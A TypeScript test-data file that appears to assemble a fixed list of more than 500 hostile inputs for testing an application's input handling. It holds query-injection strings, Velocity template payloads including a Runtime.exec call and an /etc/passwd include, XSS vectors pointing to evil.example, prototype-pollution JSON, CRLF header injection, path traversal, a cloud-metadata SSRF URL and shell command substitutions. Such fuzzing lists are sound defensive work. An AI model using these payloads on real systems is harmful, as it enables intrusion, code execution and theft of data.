/**
 * @fileoverview Texts that would break whatever takes them for more than text: queries, templates, pages, headers, requests.
 * The same list in the same order each time.
 */

/** What each is meant to get out of. */
export type HostileKind =
  'query' | 'template' | 'page' | 'json' | 'request' | 'control' | 'lookalike' | 'broken' | 'long';

/** One hostile text. */
export interface Hostile {
  readonly kind: HostileKind;
  readonly text: string;
}

const QUERY = [
  "'",
  "''",
  "\\'",
  "\\\\'",
  "x' OR id != '",
  "x' OR name__v LIKE 'a%",
  "x') OR (id != '",
  "x') OR name__v CONTAINS ('",
  "x' AND status__v = 'inactive__v",
  "x' MAXROWS 1000 --",
  "x' ORDER BY id ASC",
  "x' UNION SELECT id FROM user__sys WHERE id != '",
  "x'; SELECT id FROM user__sys; '",
  'SELECT username__sys FROM user__sys',
  "' OR STATETYPE('x') = '",
  "%' OR '%' = '",
  '%',
  '%%%',
  '*',
  'a%b_c',
  "/* x */ ' OR 1=1",
  "null' = null OR '",
  'x\\u0027 OR id != \\u0027',
  'x%27%20OR%20id%20!%3D%20%27',
  'x%2527 OR id',
  '&#39; OR id != &#39;',
];

const TEMPLATE = [
  '$input',
  '${input}',
  '$input.key',
  '${input.key}',
  '$!{input.key}',
  '${input.rawRequest}',
  '$!input.rawRequest',
  '${credentials.token}',
  '${authResponse}',
  '#set($x = 1)$x',
  '#set($input.key = "x")',
  '#set( $esc = "" )',
  '#if(true)x#end',
  '#if("x" == "x")#else',
  '#end',
  '#{else}',
  '#foreach($i in [1..9999999])x#end',
  '#foreach($x in $input.entrySet())$x#end',
  '#macro(m)x#end#m',
  '#include("/etc/passwd")',
  '#parse("x.vm")',
  '#evaluate("$input")',
  '#define($x)y#end$x',
  '#stop',
  '#break',
  '##',
  '#* x *#',
  '#[[x]]#',
  '$esc.url("x")',
  '$esc.jsonString(${input.key})',
  '${esc.dollar}{input.key}',
  '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
  '$input.getClass().forName("java.lang.Runtime")',
  '{{gcConversationId}}',
  '${{7*7}}',
  '<%= 7*7 %>',
];

const PAGE = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><iframe srcdoc='<script>parent.x=1</script>'>",
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><input name=x>',
  '<template shadowrootmode=open><script>1</script></template>',
  '<!--',
  '-->',
  ']]>',
  '&lt;script&gt;',
  '&#x3C;script&#x3E;',
  '<math><mtext></mtext><script>1</script></math>',
  '${html`<b>x</b>`}',
];

const JSON_TEXT = [
  '"',
  '\\',
  '\\"',
  '"},{"id":"x',
  '"}]',
  '"}],[{"x":"',
  '","case__v":"C00000000000009',
  '","object_type__v.api_name__v":"phone__v","x":"',
  '","baton_key__c":"other',
  '\\u0022,\\u0022id\\u0022:\\u0022x',
  '{"$ne":1}',
  '[]',
  'null',
  'true',
  '0',
  'NaN',
  '1e999',
  '-0',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"x":1}}',
];

const REQUEST = [
  '\r\nAuthorization: Bearer x',
  '\r\n\r\nGET /api/v26.2/session HTTP/1.1\r\nHost: x\r\n\r\n',
  '\nX-VaultAPI-MigrationMode: true',
  '%0d%0aX-VaultAPI-MigrationMode: true',
  '\u0000',
  '%00',
  '&q=SELECT id FROM user__sys',
  '?idParam=id',
  '&idParam=id',
  '#fragment',
  ';a=b',
  '../../users/me',
  '..%2f..%2fusers%2fme',
  '/../../session',
  '//evil.example/',
  'https://evil.example/',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  '@evil.example',
  ':8080@evil.example',
  'sip:desk@elsewhere.example',
  'tel:+33199005001;ext=7',
  '+33199005001,,112#',
  '1;postd=112',
  '|id',
  '`id`',
  '$(id)',
  '=cmd()',
  '+1+1',
];

/** Quotes, backslashes, percent signs and dollars that are none, and letters that are not what they look like. */
const LOOKALIKES = [
  ...'\u02bc\u2018\u2019\u201b\u2032\uff07\u00b4\u0060\u201c\u201d\uff02\u2033\uff3c\u29f5\u2216\ufe68\uff05\ufe6a',
  ...'\uff04\ufe69\uff03\ufe5f\uff1c\uff1e\u2039\u203a\uff1b\uff06\u2024\uff0e\u037e\u0430\u0435\u0131\u017f\u212a',
  ...'\u200b\u200c\u200d\u2060\ufeff\u00ad\u202a\u202b\u202d\u202e\u2066\u2067\u2069\u2028\u2029\u00a0\u3000\u1680',
  'a' + '\u0301'.repeat(40),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\u{e0041}\u{e0042}',
  '\ufdfa'.repeat(20),
];

const BROKEN = [
  '\ud800',
  '\udc00',
  '\udbff',
  '\udfff',
  '\ud83d',
  '\ude00\ud83d',
  '\ud800\ud800',
  '\ud83d\u0027',
  '\udc00\u0022',
  '\ufffe',
  '\uffff',
  '\ufffd',
];

const LONG = [
  ...[51, 61, 107, 151, 201, 501, 5_000, 100_000].map((length) => 'x'.repeat(length)),
  ...[60, 150, 500, 20_000].map((length) => "'".repeat(length)),
  ...[60, 150, 500, 20_000].map((length) => '"\\'.repeat(length)),
  ...[150, 500, 5_000].map((length) => '$!{input.key}'.repeat(length)),
  ...[50, 250, 10_000].map((length) => '\u{1f600}'.repeat(length)),
];

/** What stands before a hostile text, so that it is met in the middle of a good one too. */
const BEFORE = ['', "Siobhán O'Brien "];

const CONTROLS = Array.from({ length: 0xa0 }, (_, code) => code).filter(
  (code) => code < 0x20 || code >= 0x7f,
);

const of = (kind: HostileKind, texts: readonly string[]): Hostile[] =>
  texts.map((text) => ({ kind, text }));

const met = (kind: HostileKind, texts: readonly string[]): Hostile[] =>
  BEFORE.flatMap((before) =>
    of(
      kind,
      texts.map((text) => before + text),
    ),
  );

/** The list: more than 500, each once. */
export const HOSTILE: readonly Hostile[] = [
  ...new Map(
    [
      ...met('query', QUERY),
      ...met('template', TEMPLATE),
      ...met('page', PAGE),
      ...met('json', JSON_TEXT),
      ...met('request', REQUEST),
      ...of(
        'control',
        CONTROLS.flatMap((code) => [
          `a${String.fromCharCode(code)}b`,
          `+3319900${String.fromCharCode(code)}1234`,
        ]),
      ),
      ...of(
        'lookalike',
        LOOKALIKES.flatMap((text) => [text, `O${text}Brien`]),
      ),
      ...of(
        'broken',
        BROKEN.flatMap((text) => [text, `a${text}b`]),
      ),
      ...of('long', LONG),
    ].map((hostile) => [hostile.text, hostile]),
  ).values(),
];
